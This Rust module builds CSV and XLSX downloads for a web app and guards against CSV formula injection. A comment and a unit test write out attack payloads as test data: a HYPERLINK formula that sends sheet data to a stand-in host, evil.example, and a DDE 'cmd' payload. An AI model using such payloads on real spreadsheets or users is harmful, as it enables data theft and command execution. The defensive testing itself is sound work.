//! Tables as downloads: one [`Table`] (title, header, typed cells) written as CSV or
//! as an XLSX workbook (rust_xlsxwriter). Any page can build a `Table` and answer
//! with [`Table::download`]; the plan and the yearly report use it first.

use axum::http::header;
use axum::response::{IntoResponse, Response};
use rust_xlsxwriter::{Format, Workbook};

use crate::{AppError, AppResult};

/// One cell: text or a number (numbers stay numbers in a spreadsheet).
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    /// Text.
    Text(String),
    /// A number.
    Number(f64),
    /// Nothing.
    Empty,
}

impl From<&str> for Cell {
    fn from(s: &str) -> Self {
        Cell::Text(s.to_string())
    }
}

impl From<String> for Cell {
    fn from(s: String) -> Self {
        Cell::Text(s)
    }
}

impl From<f64> for Cell {
    fn from(v: f64) -> Self {
        if v.is_finite() {
            Cell::Number(v)
        } else {
            Cell::Empty
        }
    }
}

impl From<i64> for Cell {
    fn from(v: i64) -> Self {
        Cell::Number(v as f64)
    }
}

impl<T: Into<Cell>> From<Option<T>> for Cell {
    fn from(v: Option<T>) -> Self {
        v.map(Into::into).unwrap_or(Cell::Empty)
    }
}

/// A table to download.
#[derive(Debug, Clone, Default)]
pub struct Table {
    /// Sheet name (at most 31 characters are used; Excel's limit).
    pub title: String,
    /// Column headings.
    pub header: Vec<String>,
    /// Rows (each as long as the header; shorter rows are padded).
    pub rows: Vec<Vec<Cell>>,
}

/// The download format.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ExportFormat {
    /// Comma-separated, UTF-8 with a byte-order mark so that spreadsheet programs
    /// read Finnish letters right.
    Csv,
    /// Office Open XML workbook.
    Xlsx,
}

impl ExportFormat {
    /// From a file extension (`csv`, `xlsx`).
    pub fn from_ext(ext: &str) -> Option<ExportFormat> {
        match ext {
            "csv" => Some(ExportFormat::Csv),
            "xlsx" => Some(ExportFormat::Xlsx),
            _ => None,
        }
    }
}

/// `s` with every character but ASCII letters, digits, `-` and `_` as `-`: safe in a
/// file name and in an HTML id.
pub fn safe_name(s: &str) -> String {
    s.chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || c == '-' || c == '_' {
                c
            } else {
                '-'
            }
        })
        .collect()
}

/// A text cell as a spreadsheet will not run it: text that starts with `=`, `+`,
/// `-`, `@`, a tab or a carriage return is a formula to Excel and LibreOffice
/// (`=HYPERLINK("http://evil.example/?x="&A1,"click")` in a plan goal's title would
/// send the sheet's data away), so it gets a leading apostrophe, which spreadsheets
/// hide and read as "this is text" (OWASP, CSV injection). Numbers are never text
/// cells here, so `-3.5` stays a number.
pub fn csv_text(s: &str) -> std::borrow::Cow<'_, str> {
    match s.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => std::borrow::Cow::Owned(format!("'{s}")),
        _ => std::borrow::Cow::Borrowed(s),
    }
}

fn plain_number(v: f64) -> String {
    // Shortest round-trip form, with a point: machine-readable CSV.
    let s = format!("{v}");
    if s.ends_with(".0") {
        s[..s.len() - 2].to_string()
    } else {
        s
    }
}

impl Table {
    /// A table with a title and header.
    pub fn new(title: impl Into<String>, header: Vec<String>) -> Table {
        Table {
            title: title.into(),
            header,
            rows: vec![],
        }
    }

    /// Adds a row.
    pub fn push(&mut self, row: Vec<Cell>) {
        self.rows.push(row);
    }

    /// The table as CSV bytes (with BOM).
    pub fn to_csv(&self) -> AppResult<Vec<u8>> {
        let mut w = csv::Writer::from_writer(vec![0xEF, 0xBB, 0xBF]);
        let header: Vec<String> = self
            .header
            .iter()
            .map(|h| csv_text(h).into_owned())
            .collect();
        w.write_record(&header).map_err(AppError::internal)?;
        for r in &self.rows {
            let mut rec: Vec<String> = r
                .iter()
                .map(|c| match c {
                    Cell::Text(s) => csv_text(s).into_owned(),
                    Cell::Number(v) => plain_number(*v),
                    Cell::Empty => String::new(),
                })
                .collect();
            rec.resize(self.header.len().max(rec.len()), String::new());
            w.write_record(&rec).map_err(AppError::internal)?;
        }
        w.into_inner().map_err(AppError::internal)
    }

    /// Tables as one XLSX workbook, one sheet each.
    pub fn workbook(tables: &[&Table]) -> AppResult<Vec<u8>> {
        let mut wb = Workbook::new();
        let bold = Format::new().set_bold();
        let mut used: Vec<String> = vec![];
        for (i, t) in tables.iter().enumerate() {
            let sheet = wb.add_worksheet();
            let name = sheet_name(&t.title, i, &used);
            used.push(name.clone());
            sheet.set_name(&name).map_err(AppError::internal)?;
            for (c, h) in t.header.iter().enumerate() {
                sheet
                    .write_string_with_format(0, c as u16, h, &bold)
                    .map_err(AppError::internal)?;
            }
            for (r, row) in t.rows.iter().enumerate() {
                let r = (r + 1) as u32;
                for (c, cell) in row.iter().enumerate() {
                    let c = c as u16;
                    match cell {
                        Cell::Text(s) => {
                            sheet.write_string(r, c, s).map_err(AppError::internal)?;
                        }
                        Cell::Number(v) => {
                            sheet.write_number(r, c, *v).map_err(AppError::internal)?;
                        }
                        Cell::Empty => {}
                    }
                }
            }
            sheet.set_freeze_panes(1, 0).map_err(AppError::internal)?;
            for c in 0..t.header.len() {
                let widest = std::iter::once(t.header[c].chars().count())
                    .chain(t.rows.iter().map(|r| match r.get(c) {
                        Some(Cell::Text(s)) => s.chars().count(),
                        Some(Cell::Number(_)) => 12,
                        _ => 0,
                    }))
                    .max()
                    .unwrap_or(10);
                sheet
                    .set_column_width(c as u16, (widest.clamp(8, 60) + 2) as f64)
                    .map_err(AppError::internal)?;
            }
        }
        wb.save_to_buffer().map_err(AppError::internal)
    }

    /// The table as an XLSX workbook of one sheet.
    pub fn to_xlsx(&self) -> AppResult<Vec<u8>> {
        Table::workbook(&[self])
    }

    /// A download response of tables in a format, named `<stem>.<ext>`. CSV holds the
    /// first table only; XLSX holds every table as its own sheet.
    pub fn download(tables: &[&Table], format: ExportFormat, stem: &str) -> AppResult<Response> {
        let stem = safe_name(stem);
        let (body, mime, ext) = match format {
            ExportFormat::Csv => (
                tables
                    .first()
                    .map(|t| t.to_csv())
                    .transpose()?
                    .unwrap_or_default(),
                "text/csv; charset=utf-8",
                "csv",
            ),
            ExportFormat::Xlsx => (
                Table::workbook(tables)?,
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                "xlsx",
            ),
        };
        Ok((
            [
                (header::CONTENT_TYPE, mime.to_string()),
                (
                    header::CONTENT_DISPOSITION,
                    format!("attachment; filename=\"{stem}.{ext}\""),
                ),
            ],
            body,
        )
            .into_response())
    }
}

/// A sheet name Excel accepts: no `[]:*?/\`, at most 31 characters, unique.
fn sheet_name(title: &str, i: usize, used: &[String]) -> String {
    let clean: String = title
        .chars()
        .filter(|c| !matches!(c, '[' | ']' | ':' | '*' | '?' | '/' | '\\'))
        .take(28)
        .collect();
    let clean = clean.trim().trim_matches('\'').to_string();
    let base = if clean.is_empty() {
        format!("Sheet{}", i + 1)
    } else {
        clean
    };
    if used.contains(&base) {
        format!("{base} {}", i + 1)
    } else {
        base
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_cells_never_become_formulas_and_numbers_stay_numbers() {
        let mut t = Table::new("t", vec!["goal".into(), "value".into()]);
        for evil in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1,2)",
            "\t=1+1",
            "\r=1+1",
        ] {
            t.push(vec![evil.into(), Cell::Number(-3.5)]);
        }
        t.push(vec!["Liikunta 2026".into(), Cell::Number(12.0)]);
        let csv = String::from_utf8(t.to_csv().unwrap()).unwrap();
        let mut rows = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
        let rows: Vec<csv::StringRecord> = rows.records().map(|r| r.unwrap()).collect();
        for r in &rows[..6] {
            assert!(r[0].starts_with('\''), "{:?}", &r[0]);
            assert_eq!(&r[1], "-3.5");
        }
        assert_eq!(&rows[6][0], "Liikunta 2026");
        assert_eq!(&rows[6][1], "12");
    }

    fn sample() -> Table {
        let mut t = Table::new(
            "Plan: goals/actions",
            vec!["Goal".into(), "Euros".into(), "Note".into()],
        );
        t.push(vec![
            "Liikunta, \"arki\"".into(),
            15000.5.into(),
            Cell::Empty,
        ]);
        t.push(vec!["Ääkköset".into(), Cell::from(Some(3i64))]);
        t
    }

    #[test]
    fn csv_quotes_and_pads() {
        let bytes = sample().to_csv().unwrap();
        assert_eq!(&bytes[..3], &[0xEF, 0xBB, 0xBF]);
        let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines[0], "Goal,Euros,Note");
        assert_eq!(lines[1], "\"Liikunta, \"\"arki\"\"\",15000.5,");
        assert_eq!(lines[2], "Ääkköset,3,");
    }

    #[test]
    fn xlsx_is_a_zip_and_sheet_names_are_legal() {
        let t = sample();
        let bytes = Table::workbook(&[&t, &t]).unwrap();
        assert_eq!(&bytes[..2], b"PK");
        assert_eq!(
            sheet_name("Plan: goals/actions", 0, &[]),
            "Plan goalsactions"
        );
        assert_eq!(sheet_name("", 2, &[]), "Sheet3");
        assert_eq!(sheet_name("A", 1, &["A".to_string()]), "A 2");
    }
}
